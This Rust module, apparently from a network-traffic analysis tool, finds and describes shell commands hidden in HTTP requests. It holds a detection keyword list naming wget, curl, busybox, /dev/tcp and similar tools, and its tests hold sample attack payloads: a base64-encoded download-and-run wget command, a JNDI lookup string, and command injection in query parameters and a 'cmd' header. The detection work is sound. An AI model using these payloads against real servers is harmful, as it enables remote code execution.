//! What the command lines of a request would do.
//!
//! In: a request and its description. Out: actions. Finds the parts of a request that may be
//! command lines. A few searches are enough to skip most requests, which have none.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use forever200_decode::{Part, Step, parameters};
use forever200_identify::labels::Description;
use forever200_identify::{Category, http};

use crate::bytes::form::is_urlencoded;
use crate::bytes::shell::{self, Action, Text};

/// Most parameters that are read.
const MAX_PARAMETERS: usize = 200;
/// Words that make a request worth reading although no label says so. They are compared with the
/// bytes as they were sent.
const WORDS: [&str; 16] = [
    "wget+",
    "wget ",
    "wget%20",
    "wget$",
    "curl+",
    "curl ",
    "curl%20",
    "curl$",
    "tftp",
    "busybox",
    "/bin/",
    "powershell",
    "certutil",
    "nslookup",
    "cmd=",
    "/dev/tcp",
];
static ANY_WORD: LazyLock<AhoCorasick> =
    LazyLock::new(|| AhoCorasick::new(WORDS).expect("sixteen short words"));

/// Returns what the command lines of a request would do. `raw` is what may be shown of it,
/// `searched` the same in lower case.
pub(super) fn actions(raw: &[u8], searched: &[u8], description: &Description<'_>) -> Vec<Action> {
    let mut categories = description.labels.iter().map(|it| it.signature.category);
    let is_attack = categories.any(|it| matches!(it, Category::Exploit | Category::Webshell));
    let is_worth_it = is_attack || !description.indicators.is_empty();
    if !is_worth_it && !ANY_WORD.is_match(searched) {
        return Vec::new();
    }
    let http = description.http.as_ref();
    let is_form = http.is_some_and(is_form);
    let parameters = http.map(|http| all_parameters(http, is_form));
    let parameters = parameters.unwrap_or_default();
    let values = parameters.iter().flat_map(|(name, value)| {
        // A parameter without a value may be a command itself.
        let is_alone = value.is_empty();
        [
            text(value, Some(name)),
            text(name, is_alone.then_some(&b""[..])),
        ]
    });
    let sent = match http {
        Some(http) => {
            let headers = http.headers.iter().map(|header| {
                let is_command = header.name.eq_ignore_ascii_case(b"cmd");
                text(header.value, is_command.then_some(header.name))
            });
            let headers: Vec<_> = headers.take(MAX_PARAMETERS).collect();
            [headers, vec![text(http.body, None)]].concat()
        }
        None => vec![text(raw, Some(b""))],
    };
    let decoded = description.decoded.iter();
    let hidden = decoded.filter(|part| !is_parameters(part, is_form));
    let hidden = hidden.map(|part| {
        let is_all = part.steps.iter().any(|step| step.name == Step::BASE64);
        text(&part.bytes, is_all.then_some(&b""[..]))
    });
    shell::actions(values.chain(sent).chain(hidden), is_attack)
}

fn text<'a>(bytes: &'a [u8], name: Option<&'a [u8]>) -> Text<'a> {
    Text { bytes, name }
}

/// Tells whether a decoded part is the one from which the parameters are read, so that it has
/// nothing else.
fn is_parameters(part: &Part, is_form: bool) -> bool {
    let [source, decoded] = &part.steps[..] else {
        return false;
    };
    let is_source = match source.name {
        Step::TARGET => true,
        Step::BODY => is_form,
        _ => false,
    };
    is_source && decoded.name == Step::URL_DECODED
}

/// Tells whether the body is a form: by its content type or, without one, by how it looks.
fn is_form(http: &http::Request<'_>) -> bool {
    match http.values(b"content-type").next() {
        Some(first) => is_urlencoded(first),
        None => http.body.contains(&b'=') && !http.body.contains(&b'\n'),
    }
}

/// Returns names and values from the query, the form and the path.
fn all_parameters(http: &http::Request<'_>, is_form: bool) -> Vec<(Vec<u8>, Vec<u8>)> {
    let (path, query) = http.path_and_query();
    let form = if is_form { http.body.trim_ascii() } else { b"" };
    let all = [query, form, path].map(parameters).concat();
    all.into_iter().take(MAX_PARAMETERS).collect()
}

#[cfg(test)]
mod tests {
    use crate::reader::Entry;
    use crate::reader::entry::tests::{describer, entry, record};
    use crate::reader::privacy::Privacy;

    /// In base64: `wget http://198.51.100.9/x -O /tmp/x; sh /tmp/x`.
    const HIDDEN: &str = "d2dldCBodHRwOi8vMTk4LjUxLjEwMC45L3ggLU8gL3RtcC94OyBzaCAvdG1wL3g=";

    fn sentences(entry: &Entry) -> Vec<String> {
        entry.actions.iter().map(|it| it.sentence()).collect()
    }

    fn told(request: &str) -> Vec<String> {
        sentences(&entry(record(request.as_bytes())))
    }

    #[test]
    fn commands_are_found_in_parameters_headers_and_what_is_decoded() {
        let jndi = format!("${{jndi:ldap://203.0.113.5:1389/Basic/Command/Base64/{HIDDEN}}}");
        for request in [
            "GET /x?a=1;wget+http://198.51.100.9/x+-O+/tmp/x;sh+/tmp/x HTTP/1.1\r\n\r\n".to_owned(),
            "POST /x HTTP/1.1\r\ncmd: wget http://198.51.100.9/x -O /tmp/x; sh /tmp/x\r\n\r\n"
                .to_owned(),
            format!("GET / HTTP/1.1\r\nUser-Agent: {jndi}\r\n\r\n"),
        ] {
            let told = told(&request);
            assert_eq!(told.len(), 1, "{request}: {told:?}");
            assert!(told[0].contains("198[.]51[.]100[.]9"), "{told:?}");
        }
    }

    #[test]
    fn ordinary_requests_are_no_commands() {
        for request in [
            "GET /id HTTP/1.1\r\n\r\n",
            "GET /search?q=cat&cat=5&sleep=1 HTTP/1.1\r\n\r\n",
            "POST /ping HTTP/1.1\r\nContent-Length: 4\r\n\r\nping",
        ] {
            assert_eq!(told(request), [""; 0], "{request}");
        }
    }

    #[test]
    fn what_is_hidden_is_not_told() {
        // Privacy undoes base64 and blanks what is in it; a shell undoes quotes besides.
        let in_base64 = format!("/?x=${{jndi:ldap://203.0.113.5/Base64/{HIDDEN}}}");
        let in_quotes = "/?x=;wget%20http://198.51.1''00.9/x%20-O%20/tmp/x";
        for (target, left) in [(&*in_base64, 1), (in_quotes, 0)] {
            let request = format!("GET {target} HTTP/1.1\r\n\r\n");
            let told = |hidden: &str| {
                let privacy = Privacy {
                    hidden: hidden.parse().unwrap(),
                    ..Privacy::default()
                };
                let record = record(request.as_bytes());
                sentences(&Entry::new(&record, 1, &describer(privacy)))
            };
            let others = told("192.0.2.77");
            assert_eq!(others.len(), 1, "{target}");
            assert!(others[0].contains("198[.]51[.]100[.]9"), "{others:?}");
            let hidden = told("198.51.100.9");
            assert_eq!(hidden.len(), left, "{target}");
            assert!(!hidden.concat().contains("198"), "{hidden:?}");
        }
    }
}
